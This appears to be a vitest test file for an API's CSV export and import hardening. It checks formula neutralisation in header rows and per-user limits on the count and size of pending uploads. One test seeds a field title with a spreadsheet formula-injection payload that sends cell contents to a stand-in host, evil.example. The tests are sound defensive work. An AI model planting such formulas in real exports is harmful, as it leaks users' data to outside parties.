import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { startApi } from '../../../test/harness'
import { type RqlWorld, seedRqlWorld } from '../../../test/rql-fixtures'
import { userWithGrants } from '../../../test/tenant-factories'
import { fields } from '../../db/schema'
import type { MemoryStorage } from '../../storage/memory-storage'

/*
 * CSV hardening (issue 23 item 6): a custom field's title in the export's header row is neutralised
 * like any cell (and an import still recognises it); a user's uploads waiting for their import are
 * bounded in count (429 csv.too_many_uploads) and bytes (413 csv.uploads_too_large), an imported
 * or expired upload frees its place, and a refused upload stores nothing.
 */

let w: RqlWorld
beforeAll(async () => {
  w = await seedRqlWorld(await startApi({ CSV_UPLOADS_PER_USER: '3', CSV_UPLOADS_MB_PER_USER: '1' }))
}, 60_000)
afterAll(async () => {
  await w?.h.close()
})

const upload = (bytes: string | Buffer, token = w.adminToken, node = w.nodeId) =>
  w.h.call('POST', `/tasks/${node}/csv/imports`, {
    token,
    body: { file: Buffer.from(bytes).toString('base64') },
  })

const stored = () =>
  [...(w.h.app.storage as MemoryStorage).files.keys()].filter((k) => k.startsWith('csv-imports/'))

describe('the export’s header row', () => {
  it('neutralises a custom field title that a spreadsheet would run, and an import maps it back', async () => {
    const title = '=HYPERLINK("http://evil.example/?"&A2,"Click")'
    await w.h.database.db
      .insert(fields)
      .values({ nodeId: w.nodeId, name: 'cf_evil', type: 'text', title, settings: {} })
    await w.h.app.changes.sync()
    const res = await fetch(`${w.h.url}/tasks/${w.nodeId}/csv?query=&lang=en`, {
      headers: { authorization: `Bearer ${w.adminToken}` },
    })
    expect(res.status).toBe(200)
    const header = (await res.text()).replace(/^\uFEFF/, '').split('\r\n')[0]!
    expect(header).toContain(`"'=HYPERLINK(""http://evil.example/?""&A2,""Click"")"`)
    expect(header).not.toMatch(/(^|,)"?=HYPERLINK/)
    const back = await upload(`Title,"'=HYPERLINK(""http://evil.example/?""&A2,""Click"")"\nA,b\n`)
    expect(back.status, JSON.stringify(back.body)).toBe(200)
    expect(back.body.data.mapping).toEqual(['title', 'cf_evil'])
  })
})

describe('uploads waiting for their import, per user', () => {
  it('beyond the count: 429 csv.too_many_uploads and nothing stored; an import frees a place', async () => {
    const u = await userWithGrants(w.h, w.nodeId, [{ code: 'task_view' }, { code: 'task_create' }])
    const ids: string[] = []
    for (let i = 0; i < 3; i++) {
      const res = await upload('Title\nA row\n', u.token)
      expect(res.status, JSON.stringify(res.body)).toBe(200)
      ids.push(res.body.data.id)
    }
    const before = stored()
    const refused = await upload('Title\nA row\n', u.token)
    expect(refused.status).toBe(429)
    expect(refused.body.detail[0]).toMatchObject({ type: 'csv.too_many_uploads', ctx: { max: 3 } })
    expect(stored()).toEqual(before)
    // Another user has places of their own.
    expect((await upload('Title\nA row\n')).status).toBe(200)
    // Imported: the upload is gone, and its place free again.
    const run = await w.h.call('POST', `/tasks/${w.nodeId}/csv/imports/${ids[0]}/run`, {
      token: u.token,
      body: { mapping: ['title'], process_id: w.process.dev, dry_run: false, lang: 'en' },
    })
    expect(run.status, JSON.stringify(run.body)).toBe(200)
    expect((await upload('Title\nA row\n', u.token)).status).toBe(200)
  })

  it('beyond the bytes: 413 csv.uploads_too_large; an expired upload no longer counts', async () => {
    const u = await userWithGrants(w.h, w.nodeId, [{ code: 'task_view' }])
    const big = `Title\n${`${'x'.repeat(1023)}\n`.repeat(600)}`
    const first = await upload(big, u.token)
    expect(first.status, JSON.stringify(first.body)).toBe(200)
    const refused = await upload(big, u.token)
    expect(refused.status).toBe(413)
    expect(refused.body.detail[0]).toMatchObject({ type: 'csv.uploads_too_large', ctx: { max: 1 } })
    // A day later the first one has expired (the sweep removes it; until then it counts for nothing).
    const storage = w.h.app.storage as MemoryStorage
    const key = stored().find((k) => k.endsWith(first.body.data.id))!
    storage.written.set(key, new Date(Date.now() - 25 * 3_600_000))
    expect((await upload(big, u.token)).status).toBe(200)
  })
})
